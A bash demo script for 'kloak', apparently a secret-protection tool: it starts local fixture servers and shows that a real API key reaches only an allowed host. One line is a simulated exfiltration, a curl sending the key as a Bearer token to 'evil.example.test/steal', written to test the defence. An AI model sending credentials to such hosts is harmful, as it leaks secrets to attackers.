#!/usr/bin/env bash
# The 60-second demo: a real program sends a placeholder; the allowed server
# receives the real secret, a server that is not allowed receives the placeholder.
#
#   sudo scripts/demo.sh          build, then run here: in place where the kernel
#                                 allows user-memory writes, else (lockdown) with
#                                 the ciphertext strategy; inside a VM with a
#                                 Debian kernel only when neither can run here
#   scripts/demo.sh --inside      the demo itself (what runs in the VM)
set -euo pipefail
root=$(cd "$(dirname "$0")/.." && pwd)
cd "$root"
KLOAK=$root/target/debug/kloak
CERTS=$root/target/e2e/certs

if [ "${1:-}" != --inside ]; then
  [ "$(id -u)" -eq 0 ] || { echo "the demo loads eBPF programs: run it as root (sudo make demo)" >&2; exit 2; }
  scripts/install-deps.sh
  cargo build --locked
  scripts/build-test-clients.sh >/dev/null
  if "$KLOAK" doctor --json 2>/dev/null | grep -qE '"(write_user|ciphertext)": *true'; then
    exec "$0" --inside
  fi
  blocker=$("$KLOAK" doctor 2>/dev/null | grep -o 'lockdown=[a-z]*' | head -1 || true)
  echo "This kernel refuses user-memory writes (${blocker:-bpf_probe_write_user refused}) and cannot patch"
  echo "packets with TC programs, so kloak can only observe here. Running the same demo inside a VM with"
  echo "Debian's 6.12 kernel (about a minute)..."
  echo
  exec scripts/vm.sh --kernel trixie --timeout 900 -- scripts/demo.sh --inside
fi

work=$(mktemp -d /tmp/kloak-demo.XXXXXX)
pids=()
trap 'for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done; rm -rf "$work"' EXIT
secret="sk-demo-$(head -c 18 /dev/urandom | base64 | tr -dc 'A-Za-z0-9' | head -c 24)"
printf '%s\n' "$secret" > "$work/openai_key"

start() { # LOG CMD...: a background server, waited for until it says "ready"
  local log=$1; shift
  "$@" > "$log" 2>&1 &
  pids+=($!)
  for _ in $(seq 1 600); do grep -q ready "$log" && return; sleep 0.1; done
  echo "server did not start: $(cat "$log")" >&2; exit 1
}
start "$work/dns.log" python3 tests/fixtures/dns_server.py --listen 127.0.0.53:53 \
  --record api.example.test=127.0.0.1 --record evil.example.test=127.0.0.2
start "$work/api.log" python3 tests/fixtures/tls_server.py --listen 127.0.0.1:8443 \
  --cert "$CERTS/server.pem" --key "$CERTS/server.key" --record "$work/api.rec"
start "$work/evil.log" python3 tests/fixtures/tls_server.py --listen 127.0.0.2:8443 \
  --cert "$CERTS/server.pem" --key "$CERTS/server.key" --record "$work/evil.rec"
printf 'nameserver 127.0.0.53\n' > "$work/resolv.conf"

echo "Secret OPENAI_API_KEY = $secret (kloak keeps it; the app never sees it)"
echo "Policy: only api.example.test:8443, as resolved by the trusted DNS server 127.0.0.53"
if "$KLOAK" doctor --json 2>/dev/null | grep -q '"write_user": *true'; then
  echo "Strategy: auto (AES-GCM sessions are patched in the ciphertext, others rewritten in place)"
else
  echo "Strategy: ciphertext (kernel lockdown: the real value is patched into the AES-GCM record"
  echo "          on the wire, so it never enters the app's memory)"
fi
echo
export CURL_CA_BUNDLE=$CERTS/ca.pem
unshare -m sh -c 'mount --bind "$0" /etc/resolv.conf && exec "$@"' "$work/resolv.conf" \
  "$KLOAK" run --secret "OPENAI_API_KEY=@$work/openai_key" --allow-host api.example.test --port 8443 \
  --dns-server 127.0.0.53 -- sh -c '
    echo "app sees:   OPENAI_API_KEY=$OPENAI_API_KEY"
    curl -sS -m 10 -o /dev/null -H "Authorization: Bearer $OPENAI_API_KEY" https://api.example.test:8443/v1/models
    curl -sS -m 10 -o /dev/null -H "Authorization: Bearer $OPENAI_API_KEY" https://evil.example.test:8443/steal' \
  2> "$work/kloak.log" || true
echo
echo "kloak's decisions:"
grep -E '^(kloak|curl):' "$work/kloak.log" | sed 's/^/  /'

auth() { python3 -c '
import base64, json, sys
for line in open(sys.argv[1]):
    for header in base64.b64decode(json.loads(line)["data_b64"]).split(b"\r\n"):
        if header.lower().startswith(b"authorization"):
            print(header.decode())' "$1"; }
echo
echo "api.example.test (allowed) received:   $(auth "$work/api.rec")"
echo "evil.example.test (not allowed) got:   $(auth "$work/evil.rec")"
echo
if auth "$work/api.rec" | grep -qF "$secret" && auth "$work/evil.rec" | grep -q 'kloak:' \
  && ! auth "$work/evil.rec" | grep -qF "$secret"; then
  echo "demo: OK - the real key reached only the allowed host; the app only ever held a placeholder."
else
  echo "demo: FAILED - see above"; exit 1
fi
